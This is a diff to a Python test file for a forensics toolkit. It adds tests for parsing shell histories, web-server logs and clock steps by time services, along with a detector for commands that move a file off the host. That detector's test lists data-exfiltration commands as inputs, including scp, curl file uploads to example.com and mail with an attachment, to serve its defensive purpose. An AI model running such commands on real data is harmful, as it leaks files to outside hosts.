@@ -18,7 +18,9 @@ from forensics.artifacts.linux import (
     smb_conf,
     system_log,
     utmp,
+    web_log,
 )  # fmt: skip
+from forensics.artifacts.linux.commands import leaves
 from forensics.artifacts.linux.syslog import entries
 from forensics.artifacts.removable import os_traces
 from forensics.artifacts.text import Reach, Record
@@ -146,10 +148,25 @@ def test_histories_of_shells():
     found = [(row["time_raw"], row["account"], row["path"]) for row in parsed.traces]
     assert found == [
         ("1686330000", "kei", "/tmp/x.tgz"), ("1686330000", "kei", "/srv/a b.csv"),
+        (None, "kei", "/srv/without_a_time.csv"),
         ("1686330120", "kei", "/tmp/y"), ("1686330120", "kei", "/srv/c.csv"),
     ]  # fmt: skip
     assert {row["kind"] for row in parsed.traces} == {"file_read"}
     assert shell_history.parse(Content(b"#1\n'", "/root/.bash_history")).traces == []
+
+
+def test_commands_that_take_a_file_elsewhere():
+    away = (
+        "cp /srv/a.csv /media/usb0/", "scp /srv/a.csv kei@192.0.2.9:", "cat /srv/a.csv > /mnt/x", "rsync -a /srv/a.csv nas:/x",
+        "curl -F f=@/srv/a.csv https://example.com/", "dd if=/srv/a.csv of=/run/media/kei/D/a", "mail -a /srv/a.csv x@example.com",
+    )  # fmt: skip
+    here = (
+        "cp /srv/a.csv /tmp/",
+        "cat /srv/a.csv",
+        "tar czf /tmp/x.tgz /srv/a.csv",
+        "curl http://localhost:80/",
+    )
+    assert [line for line in (*away, *here) if leaves(line)] == [*away]
 
 
 def test_usb_storage_in_kernel_lines():
@@ -184,6 +201,40 @@ Jun 21 11:00:00 sv systemd-shutdown[1]: Syncing filesystems and block devices.
         "clock_changed",
         "host_stopped",
     ]
+
+
+@pytest.mark.parametrize(
+    ("line", "told"),
+    [
+        ("chronyd[600]: System clock was stepped by -259200.123456 seconds", [("clock_changed", "root")]),
+        ("ntpd[7]: time reset +86400.1 s", [("clock_changed", "root")]),
+        ("ntpdate[7]: step time server 192.0.2.1 offset 3600.5 sec", [("clock_changed", "root")]),
+        ("chronyd[600]: System clock was stepped by 0.412 seconds", []),
+    ],
+)  # fmt: skip
+def test_steps_of_time_services(line, told):
+    parsed = system_log.parse(Content(f"Jun 21 10:00:00 sv {line}\n".encode()))
+    assert [(row["kind"], row["account"]) for row in rows(parsed)] == told
+
+
+WEB = """\
+192.0.2.9 - - [10/Jun/2023:23:11:05 +0900] "GET /kyufu/%E5%90%8D%E7%B0%BF.csv?x=1 HTTP/1.1" 200 48211 "-" "curl"
+www.example.jp:443 192.0.2.9 - kei [10/Jun/2023:14:11:05 +0000] "POST /dl.php?f=srv/a.csv&n=3 HTTP/2.0" 206 9 "-" "M"
+192.0.2.9 - - [10/Jun/2023:23:11:05 +0900] "GET /kyufu/a.csv HTTP/1.1" 404 12
+192.0.2.9 - - [10/Xyz/2023:23:11:05 +0900] "GET /a HTTP/1.1" 200 12
+"""
+
+
+def test_requests_of_a_web_server():
+    parsed = web_log.parse(Content(WEB.encode()))
+    assert [(row["kind"], row["account"], row["path"], row["size"]) for row in rows(parsed)] == [
+        ("file_read", None, "/kyufu/名簿.csv", 48211),
+        ("file_read", "kei", "/dl.php", 9),
+        ("file_read", "kei", "/srv/a.csv", 9),
+    ]
+    times = {row["time"] for row in rows(parsed)}
+    assert {str(moment(time.start)) for time in times} == {"2023-06-10 14:11:05+00:00"}
+    assert [gap.reason for gap in parsed.gaps] == ["NOT_A_RECORD"]
 
 
 def test_ftp_transfers():
